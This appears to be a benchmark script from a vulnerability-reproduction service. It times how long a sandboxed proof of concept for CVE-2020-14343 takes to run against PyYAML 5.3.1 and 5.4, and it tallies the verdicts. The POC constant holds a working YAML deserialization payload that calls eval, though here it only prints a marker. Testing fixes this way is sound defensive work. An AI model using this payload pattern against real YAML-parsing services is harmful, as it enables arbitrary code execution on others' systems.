"""How long the server takes to reproduce a proof of concept in the sandbox.

Usage: ``.venv/bin/python benchmarks/reproduction.py [--rounds R]`` (default 5).

Runs the CVE-2020-14343 PoC (PyYAML ``FullLoader`` code execution) R times against PyYAML
5.3.1 and 5.4 from the task cache, each run in a fresh bubblewrap sandbox (start, install the
release's files, run, stop), as the reproduction worker does, and judges each pair. Prints one
JSON line: seconds per sandboxed run (median and max), per judged PoC, and the verdicts seen.
"""

from __future__ import annotations

import argparse
import json
import statistics
import time

from prereview.clearinghouse.reproduction.sandboxed import run_poc
from prereview.clearinghouse.reproduction.sources import find
from prereview.clearinghouse.reproduction.verdict import Expectation, judge

POC = b"""
import yaml
payload = ("!!python/object/new:tuple [!!python/object/new:map [!!python/name:eval , "
           "[\\"__import__('sys').stdout.write('CODE-' + 'EXECUTED')\\"]]]")
try:
    yaml.full_load(payload)
except Exception as exc:
    print("refused:", type(exc).__name__)
"""


def main() -> None:
    parser = argparse.ArgumentParser()
    parser.add_argument("--rounds", type=int, default=5)
    args = parser.parse_args()
    affected, fixed = find("pyyaml", "5.3.1", None), find("pyyaml", "5.4", None)
    expect = Expectation(0, "CODE-EXECUTED")
    runs: list[float] = []
    pocs: list[float] = []
    verdicts: dict[str, int] = {}
    for _ in range(args.rounds):
        started = time.monotonic()
        first = run_poc(POC, affected)
        second = run_poc(POC, fixed)
        pocs.append(time.monotonic() - started)
        runs += [first.duration_s, second.duration_s]
        verdict = judge(expect, first, second)
        verdicts[verdict] = verdicts.get(verdict, 0) + 1
    print(
        json.dumps(
            {
                "benchmark": "reproduction",
                "rounds": args.rounds,
                "run_s_median": round(statistics.median(runs), 3),
                "run_s_max": round(max(runs), 3),
                "poc_s_median": round(statistics.median(pocs), 3),
                "verdicts": verdicts,
            }
        )
    )


if __name__ == "__main__":
    main()
